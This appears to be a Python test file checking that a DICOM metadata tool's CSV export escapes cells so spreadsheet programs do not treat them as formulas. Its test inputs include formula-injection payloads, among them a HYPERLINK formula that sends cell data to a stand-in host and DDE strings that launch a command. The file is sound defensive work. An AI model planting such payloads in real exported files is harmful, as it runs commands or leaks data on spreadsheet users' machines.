import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from atlas_node.web.spreadsheet import COLUMNS, cell, elements_csv


def record(**changes):
    known = {
        "path": "(0019,100a)", "creator": "SIEMENS MR HEADER", "key": "(0019,xx0a)",
        "vr_before": "UN", "vr": "US", "vm": "1", "name": "Number", "status": "decoded",
        "reason": "", "value": [36], "sources": ["pydicom", "gdcm"], "confidence": 0.99,
    }  # fmt: skip
    return known | changes


def rows(elements):
    text = elements_csv(elements).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_each_element_is_a_row_under_one_heading():
    assert rows([record(), record(value=["a", "b"], truncated=True)]) == [
        list(COLUMNS),
        ["(0019,100a)", "SIEMENS MR HEADER", "(0019,xx0a)", "Number", "UN", "US", "1", "36", "",
         "decoded", "", "pydicom gdcm", "0.99"],
        ["(0019,100a)", "SIEMENS MR HEADER", "(0019,xx0a)", "Number", "UN", "US", "1", "a\\b",
         "yes", "decoded", "", "pydicom gdcm", "0.99"],
    ]  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://192.0.2.1/?"&A1)', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1",
        "\uff0d1+1", "\uff20SUM(1)",
    ],
)  # fmt: skip
def test_what_begins_like_a_formula_is_text(text):
    assert cell(text).startswith("'")
    assert rows([record(name=text)])[1][3].startswith("'")


@pytest.mark.parametrize("mark", [";", "\t", "; ", ';"', ";;", "\t "])
@pytest.mark.parametrize("sign", "=+-@\uff1d\uff0b\uff0d\uff20")
def test_no_formula_begins_where_another_program_parts_the_cells(mark, sign):
    shown = cell(f"a{mark}{sign}1+1")

    assert shown.rstrip(f"{sign}1+").rstrip(' "').endswith("'")


@pytest.mark.parametrize("text", ["-5", "+0.25", "-1.5e-07", "36", "a=b", "a;b=c", ""])
def test_numbers_and_other_text_stay_as_they_are(text):
    assert cell(text) == text


@given(st.text())
def test_no_text_becomes_a_formula_a_control_character_or_another_row(text):
    found = rows([record(creator=text, name=text, reason=text, value=[text])])

    assert len(found) == 2
    assert len(found[1]) == len(COLUMNS)
    for shown in found[1]:
        assert not set(shown) & set("\t\r\n\x00\x1b\u202e")
        assert shown[:1] not in ("=", "@")
        assert shown[:1] not in ("+", "-") or float(shown) is not None
        assert not any(part[:1] in tuple("=+-@") for part in shown.split(";")[1:])
